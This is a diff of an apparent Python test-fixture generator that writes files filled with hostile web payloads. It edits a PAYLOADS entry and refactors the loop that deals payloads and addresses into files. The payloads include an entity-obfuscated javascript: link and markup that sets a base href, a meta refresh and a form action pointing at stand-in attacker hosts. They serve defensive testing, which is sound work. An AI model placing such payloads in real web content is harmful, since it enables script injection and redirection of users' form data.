@@ -10,7 +10,7 @@ import os
 from collections.abc import Callable, Iterator
 from email.header import Header
 from html import escape
-from itertools import cycle, islice
+from itertools import cycle
 from pathlib import Path
 from xml.sax.saxutils import escape as in_xml
 
@@ -43,7 +43,7 @@ PAYLOADS = (
     "[" * 3_000 + "<a " * 1_000 + "![](" * 1_000,
     "1. " * 300 + "> " * 300,
     f"<a href='&#106;avascript&colon;{RUN}'>&lt;b&gt; &amp;#60;</a>",
-    f"<base href=//evil.invalid><meta http-equiv=refresh content=0;url=//evil.invalid><form action=//evil.invalid>{RUN}",
+    f"<base href=//evil.invalid><meta http-equiv=refresh content=0;url=//evil.invalid><form action=//q.invalid>{RUN}",
     "BEGIN:VEVENT\r\nURL:javascript:x\r\nEND:VCALENDAR\\n,;",
     "con",
     "‹script›＜script＞﹤b﹥ & &amp;lt;",
@@ -146,17 +146,12 @@ def write(folder: Path) -> list[Hostile]:
 
 def _dealt(folder: Path) -> Iterator[Hostile]:
     for shift, (ending, place) in enumerate(_PLACES.items()):
-        payloads = cycle(PAYLOADS)
-        addresses = cycle(ADDRESSES)
-        list(islice(payloads, shift * 4))
+        said, address = (cycle(one).__next__ for one in (PAYLOADS[4 * shift :] + PAYLOADS[: 4 * shift], ADDRESSES))
+        expect = "page" if ending in ("txt", "json", "eml", "rss") else "either"
         for number in range(ROUNDS):
-            word = f"zq{ending}{number}ok"
-            name = f"{ending}{number}.{ending}"
-            text = place(word, lambda: next(payloads), lambda: next(addresses))
-            (folder / name).write_bytes(text.encode("utf-8", "surrogatepass"))
-            yield Hostile(
-                name, name, "page" if ending in ("txt", "json", "eml", "rss") else "either", (word,), ("687",)
-            )
+            word, name = f"zq{ending}{number}ok", f"{ending}{number}.{ending}"
+            (folder / name).write_bytes(place(word, said, address).encode("utf-8", "surrogatepass"))
+            yield Hostile(name, name, expect, (word,), ("687",))
 
 
 def _odd(folder: Path) -> Iterator[Hostile]:
